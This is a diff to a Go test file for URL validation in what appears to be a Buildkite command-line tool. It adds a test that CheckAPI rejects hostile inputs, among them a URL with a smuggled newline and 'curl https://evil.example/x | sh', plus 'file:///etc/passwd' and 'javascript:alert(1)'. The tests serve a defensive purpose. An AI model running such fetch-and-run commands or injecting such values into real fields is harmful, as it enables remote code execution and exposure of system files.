@@ -2,7 +2,6 @@ package weburl
 
 import (
 	"errors"
-	"runtime"
 	"testing"
 )
 
@@ -44,28 +43,35 @@ func TestOnlyBuildkitePagesOverHTTPSAreOpened(t *testing.T) {
 	}
 }
 
-func TestOpenStartsTheOpenerOnlyForACheckedURL(t *testing.T) {
-	var started [][]string
-	orig := start
-	start = func(name string, args []string) error {
-		started = append(started, append([]string{name}, args...))
-		return nil
-	}
-	t.Cleanup(func() { start = orig })
-	if err := Open("file:///etc/shadow", "https://api.buildkite.com"); err == nil {
-		t.Fatal("file:// was opened")
-	}
-	if err := Open("https://buildkite.com/acme/app", "https://api.buildkite.com"); err != nil {
-		t.Fatal(err)
-	}
-	want, _ := Command(runtime.GOOS, "https://buildkite.com/acme/app")
-	if len(started) != 1 || started[0][0] != want || started[0][len(started[0])-1] != "https://buildkite.com/acme/app" {
-		t.Fatalf("started = %q", started)
-	}
+func TestTheURLIsTheOpenersLastArgument(t *testing.T) {
 	for _, goos := range []string{"linux", "darwin", "windows", "freebsd"} {
 		_, args := Command(goos, "https://buildkite.com/x")
 		if args[len(args)-1] != "https://buildkite.com/x" {
 			t.Errorf("%s: the URL is not the last argument: %q", goos, args)
 		}
+	}
+}
+
+// A token's url is the API's: https:// on the endpoint's own host, and
+// nothing a shell would run when pasted (issue 24, 8).
+func TestCheckAPIAllowsOnlyTheEndpointsHostOverHTTPS(t *testing.T) {
+	const endpoint = "https://api.buildkite.com/v2"
+	for _, raw := range []string{
+		"https://api.buildkite.com/v2/clusters/1/tokens/2\ncurl https://evil.example/x | sh",
+		"https://api.buildkite.com/v2/x\r",
+		"http://api.buildkite.com/v2/x",
+		"file:///etc/passwd",
+		"javascript:alert(1)",
+		"https://evil.example/v2/x",
+		"https://user@api.buildkite.com/v2/x",
+		"https://api.buildkite.com:8443/v2/x",
+	} {
+		if got, err := CheckAPI(raw, endpoint); err == nil || !errors.Is(err, ErrNotAllowed) {
+			t.Errorf("CheckAPI(%q) = %q, %v", raw, got, err)
+		}
+	}
+	if got, err := CheckAPI("https://api.buildkite.com/v2/organizations/acme/clusters/1/tokens/2", endpoint); err != nil ||
+		got != "https://api.buildkite.com/v2/organizations/acme/clusters/1/tokens/2" {
+		t.Fatalf("the API's own URL: %q, %v", got, err)
 	}
 }
